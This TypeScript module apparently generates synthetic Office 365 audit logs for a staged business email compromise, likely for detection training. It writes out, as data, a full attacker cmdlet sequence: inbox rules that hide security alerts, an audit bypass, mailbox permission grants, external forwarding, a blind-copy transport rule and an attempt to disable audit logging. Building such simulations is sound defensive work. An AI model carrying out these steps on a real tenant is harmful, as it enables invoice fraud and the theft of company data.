import { minute, second } from '../calendar.ts'
import { person } from '../company.ts'
import type { Logs } from '../logs.ts'
import type { Random } from '../random.ts'
import { cmdletRow, fileRow, mailboxRow, type Parameters, withPort } from '../rows/office-activity.ts'
import { demoStory } from './story.ts'

const { attacker, times, targetMailbox } = demoStory
const victim = person(demoStory.account.sam)
const finance = person('ines.carrowmore')
const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'

type Step = readonly [cmdlet: string, parameters: Parameters, pause: number, failed?: boolean]

/** Hides what the company would write to the victim about sign-ins. */
const hiding: readonly Step[] = [
  [
    'New-InboxRule',
    [
      ['Name', '.'],
      ['SubjectOrBodyContainsWords', 'sign-in;mfa;security info;verification'],
      ['MoveToFolder', 'RSS Feeds'],
      ['MarkAsRead', 'True'],
      ['StopProcessingRules', 'True'],
    ],
    38,
  ],
  [
    'New-InboxRule',
    [
      ['Name', '..'],
      ['From', 'it-alerts@alderfinch.example'],
      ['DeleteMessage', 'True'],
      ['StopProcessingRules', 'True'],
    ],
    51,
  ],
  [
    'Set-MailboxMessageConfiguration',
    [
      ['Identity', victim.upn],
      ['HideDeletedItems', 'True'],
    ],
    0,
  ],
]

/** Opens the mailbox of the head of finance, sends its mail outside, and tries to blind the audit. */
const adminSession: readonly Step[] = [
  [
    'Set-MailboxAuditBypassAssociation',
    [
      ['Identity', victim.upn],
      ['AuditBypassEnabled', 'True'],
    ],
    41,
  ],
  [
    'Add-MailboxPermission',
    [
      ['Identity', targetMailbox],
      ['User', victim.upn],
      ['AccessRights', 'FullAccess'],
      ['AutoMapping', 'False'],
    ],
    27,
  ],
  [
    'Set-Mailbox',
    [
      ['Identity', targetMailbox],
      ['ForwardingSmtpAddress', `smtp:${attacker.mailDrop}`],
      ['DeliverToMailboxAndForward', 'True'],
    ],
    84,
  ],
  [
    'New-InboxRule',
    [
      ['Mailbox', targetMailbox],
      ['Name', '..'],
      ['SubjectContainsWords', 'bank details'],
      ['DeleteMessage', 'True'],
      ['Force', 'True'],
    ],
    66,
  ],
  [
    'Add-RecipientPermission',
    [
      ['Identity', targetMailbox],
      ['Trustee', victim.upn],
      ['AccessRights', 'SendAs'],
      ['Confirm', 'False'],
    ],
    39,
  ],
  [
    'Set-RemoteDomain',
    [
      ['Identity', 'Default'],
      ['AutoForwardEnabled', 'True'],
    ],
    58,
  ],
  [
    'New-TransportRule',
    [
      ['Name', 'Journal sync 2'],
      ['SubjectOrBodyContainsWords', 'invoice;remittance;bank details'],
      ['BlindCopyTo', attacker.mailDrop],
      ['StopRuleProcessing', 'True'],
    ],
    33,
  ],
  [
    'New-ManagementRoleAssignment',
    [
      ['Role', 'ApplicationImpersonation'],
      ['User', victim.upn],
    ],
    47,
  ],
  ['Set-AdminAuditLogConfig', [['UnifiedAuditLogIngestionEnabled', 'False']], 0, true],
]

const taken = [
  ['IT', 'Backup-runbook.docx'],
  ['IT', 'AWS-access-keys.xlsx'],
  ['IT', 'VPN-configuration.pdf'],
  ['IT', 'Network-plan.pdf'],
  ['IT', 'Server-list.xlsx'],
  ['IT', 'Admin-accounts.xlsx'],
  ['IT', 'Azure-subscriptions.docx'],
  ['Finance', 'Supplier-bank-details.xlsx'],
  ['Finance', 'Payment-run-September.xlsx'],
  ['Finance', 'Invoice-register.xlsx'],
  ['Finance', 'Cash-flow-forecast.xlsx'],
  ['Company', 'Organisation-chart.pdf'],
] as const

/** Inbox rules, files, the Exchange administration session, the delegate's reading, and the mail that is the fraud. */
export function abuseMailbox(logs: Logs, random: Random): void {
  run(logs, random, times.inboxRule, withPort(attacker.address, 41_822), hiding)
  run(logs, random, times.exchangeSession, withPort(attacker.address, 52_107), adminSession)
  read(logs, random, times.inboxRule - 5 * minute, 11, victim.upn)
  read(logs, random, times.exchangeSession + 14 * minute, 14, targetMailbox)
  let at: number = times.downloads
  for (const [index, [site, file]] of [...taken, ...taken.slice(0, 7), ...taken.slice(7)].entries()) {
    at += random.between(3, 24) * second
    const operation = index < taken.length ? 'FileAccessed' : 'FileDownloaded'
    logs.office.add(
      at,
      fileRow(random, at, {
        operation,
        actor: victim,
        clientIp: attacker.address,
        userAgent: agent,
        site,
        folder: 'Shared Documents',
        file,
      }),
    )
  }
  for (const [index, subject] of [
    'Updated bank details for October',
    'Re: Updated bank details for October',
  ].entries()) {
    const when = times.fraudMail + index * 4 * minute
    const sent = {
      operation: 'SendAs',
      actor: victim,
      owner: finance,
      clientIp: attacker.address,
      client: `Client=OWA;${agent}`,
      folder: 'Sent Items',
      subjects: [subject],
      logonType: 2,
    } as const
    logs.office.add(when, mailboxRow(random, when, sent))
  }
}

function run(logs: Logs, random: Random, start: number, clientIp: string, steps: readonly Step[]): void {
  let at = start
  for (const [operation, parameters, pause, failed = false] of steps) {
    const object = parameters.find(([name]) => name === 'Identity' || name === 'Name')?.[1] ?? ''
    logs.office.add(at, cmdletRow(random, at, { operation, actor: victim, clientIp, parameters, object, failed }))
    at += pause * second
  }
}

function read(logs: Logs, random: Random, start: number, count: number, mailbox: string): void {
  const own = mailbox === victim.upn
  let at = start
  for (let left = count; left > 0; left--) {
    at += random.between(5, 28) * second
    const subjects = random.sample(
      [
        'Payment run',
        'Invoice 2026-0914',
        'Bank details of suppliers',
        'VPN access',
        'Backup runbook',
        'Re: Budget 2027',
      ],
      3,
    )
    logs.office.add(
      at,
      mailboxRow(random, at, {
        operation: 'MailItemsAccessed',
        actor: victim,
        owner: own ? victim : finance,
        clientIp: attacker.address,
        client: `Client=OWA;${agent}`,
        folder: 'Inbox',
        subjects,
        ...(!own && { logonType: 2 as const }),
      }),
    )
  }
}
